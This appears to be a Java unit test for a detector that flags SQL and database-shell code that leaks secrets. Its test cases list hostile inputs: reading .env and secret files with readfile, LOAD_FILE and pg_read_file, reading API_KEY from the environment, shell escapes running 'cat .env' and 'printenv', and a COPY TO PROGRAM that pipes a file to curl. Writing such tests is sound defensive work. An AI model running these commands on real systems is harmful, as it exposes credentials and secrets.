package dev.keepmum.code;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlReaderTest {
  private final SqlReader sql = new SqlReader();

  @ParameterizedTest
  @CsvSource(
      delimiterString = " => ",
      quoteCharacter = '~',
      value = {
        "select readfile('.env') => print(from(file('.env')))",
        "select hex(readfile('.e' || 'nv')); => print(from(file('.env')))",
        "SELECT LOAD_FILE('/run/secrets/x') => print(from(file('/run/secrets/x')))",
        "select * from read_text('.env') => print(from(file('.env')))",
        "select * from '.env' => print(from(file('.env')))",
        "select getenv('API_KEY') => print(from(var('API_KEY')))",
        "select pg_read_file('/etc/app/.env', 0, 100) => print(from(file('/etc/app/.env')))",
        ".shell cat .env => shell('cat .env')",
        "\\! printenv => shell('printenv')",
        "system cat .env => shell('cat .env')",
        ".read .env => sql(file('.env')); print(from(file('.env')))",
        "\\getenv k API_KEY/n\\echo :k => print(var('API_KEY'))",
        "\\echo `cat .env` => print(output shell('cat .env'))",
        ".import .env t => write('the database', from(file('.env')))",
        ".import .env t/nselect * from t; =>"
            + " print(from(file('.env'))); write('the database', from(file('.env')))",
        "create table t(l text); copy t from '.env'; select l from t =>"
            + " print(from(file('.env'))); write('the database', from(file('.env')))",
        "select writefile('out', readfile('.env')) => write('out', file('.env'))",
        ".output out.txt/nselect readfile('.env'); => write('out.txt', from(file('.env')))",
        "copy (select pg_read_file('.env')) to program 'curl -d @- x' =>"
            + " shell('curl -d @- x' < from(file('.env')))",
        "select load_file('.env') into outfile '/tmp/x' => write('/tmp/x', from(file('.env')))",
      })
  void leaks(String code, String effects) {
    assertThat(Compact.of(sql.read(code.replace("/n", "\n")))).isEqualTo(effects);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "select 1",
        ".schema",
        "select count(*) from t",
        "select length(readfile('.env'))",
        "select 'readfile(''.env'')'",
        "-- select readfile('.env')",
        "insert into t values (readfile('.env'))",
        "\\d users",
      })
  void harmless(String code) {
    assertThat(sql.read(code)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "(",
        "'",
        "select readfile(",
        ".",
        "\\",
        "copy",
        "load",
        ".import",
        "\\set",
        "`",
        "from"
      })
  void brokenCodeIsRead(String code) {
    assertThat(sql.read(code)).isNotNull();
    assertThat(sql.read(code.repeat(3_000))).isNotNull();
  }
}
